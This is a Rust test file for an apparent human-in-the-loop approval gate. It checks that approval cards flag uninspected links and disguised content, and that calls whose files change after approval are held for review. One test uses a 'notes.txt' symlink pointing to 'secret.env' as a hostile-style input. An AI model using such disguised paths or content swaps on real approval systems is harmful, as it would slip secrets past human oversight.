async fn invariant_9_a_card_says_what_nobody_looked_into_and_where_links_lead() {
    let place = Place::new();
    let b = support::bench().await;
    let text = |text: &str| support::Ask { text: text.to_owned() };
    let request = submitted(&b.gate, text("https://example.com/run.sh"), 0).await;
    let card = request.render(Timestamp::EPOCH, DetailLevel::Brief);
    for shown in [card.to_text(), card.to_html(), card.to_markdown(), card.to_chat()] {
        let plain = shown.replace('\\', "");
        assert!(plain.contains("not inspected: what") && plain.contains("links to"), "{shown}");
    }
    let request = submitted(&b.gate, text("Pay Ann and/or Bob."), 1).await;
    let card = request.render(Timestamp::EPOCH, DetailLevel::Brief).to_text();
    assert!(!card.contains("not inspected"), "{card}");
    #[cfg(unix)]
    {
        let file = place.write("secret.env", "x");
        std::os::unix::fs::symlink(&file, place.path("notes.txt")).unwrap();
        let request = submitted(&b.gate, text(&place.path("notes.txt")), 2).await;
        assert_eq!((request.links[0].at.as_str(), &request.links[0].to), ("/text", &file));
        let card = request.render(Timestamp::EPOCH, DetailLevel::Brief).to_text();
        assert!(card.contains("symbolic link") && card.contains("secret.env"), "{card}");
    }
}

#[tokio::test]
async fn records_without_contents_read_and_write_as_before() {
    let b = support::bench().await;
    let request = submitted(&b.gate, support::ask("hello"), 0).await;
    let written = serde_json::to_string(&request).unwrap();
    assert!(!written.contains("contents") && !written.contains("links"), "{written}");
    let read: ApprovalRequest = serde_json::from_str(&written).unwrap();
    assert_eq!(read, request);
}

#[tokio::test]
async fn invariant_2_calls_that_run_together_wait_when_one_names_something_else_now() {
    let place = Place::new();
    let gate = gate().await;
    let (one, two) = (place.write("one", "one"), place.write("two", "two"));
    let batch = gate.submit_all("run").call(0, run(&[&one])).call(1, run(&[&two])).all_or_none();
    let batch = batch.by("ann").await;
    let ask = async |position| {
        let key = CallKey::new("run", position);
        gate.unscoped().get_by_key(&key).await.unwrap().unwrap()
    };
    for position in [0, 1] {
        approve(&gate, ask(position).await.request()).await;
    }
    place.write("two", "evil");
    let gate_of_executor = gate.clone();
    let serving = tokio::spawn(async move { gate_of_executor.serve().await });
    support::until("it is asked about again", async || ask(1).await.state() == CallState::Pending)
        .await;
    assert_eq!(ask(0).await.state(), CallState::Approved, "it waits for its sibling");
    approve(&gate, ask(1).await.request()).await;
    support::until("both have run", async || {
        ask(0).await.state() == CallState::Executed && ask(1).await.state() == CallState::Executed
    })
    .await;
    serving.abort();
    drop(batch);
    assert_eq!(given(ask(1).await.request()), [Some("evil".to_owned())]);
}

#[tokio::test]
async fn invariant_9_a_mask_that_stands_in_the_content_itself_is_said() {
    let place = Place::new();
    let gate = gate().await;
    let file = place.write("file", "run [redacted] now\rsection");
    let request = submitted(&gate, run(&[&file]), 0).await;
    let card = request.render(Timestamp::EPOCH, DetailLevel::Brief);
    assert!(card.warnings.iter().any(|why| why.contains("mask that is not listed")), "{card:?}");
    assert!(card.to_text().contains(r"| run [redacted] now\rsection"), "{}", card.to_text());
}

#[tokio::test]
async fn invariant_2_what_was_tried_does_not_run_again_with_another_content() {
    let place = Place::new();
    let gate = gate().await;
    let file = place.write("file", "hang");
    let request = submitted(&gate, run(&[&file]), 0).await;
    approve(&gate, &request).await;
    let unknown = claimed(&gate, &request).await;
    assert_eq!(unknown.state(), CallState::OutcomeUnknown, "{unknown:?}");
    let again = hitl_core::Resolution::Retry { attested: true };
    gate.resolve(&unknown, again, "bob").await.unwrap();
    place.write("file", "evil");
    support::until("nothing is left to run", async || {
        let serving = tokio::spawn({
            let gate = gate.clone();
            async move { gate.serve().await }
        });
        for _ in 0..1_000 {
            tokio::task::yield_now().await;
        }
        serving.abort();
        record(&gate, request.id).await.state() != CallState::Approved
    })
    .await;
    let record = record(&gate, request.id).await;
    assert!(matches!(record.state(), CallState::OutcomeUnknown | CallState::Denied), "{record:?}");
    assert_eq!(given(&request), [Some("hang".to_owned())]);
}
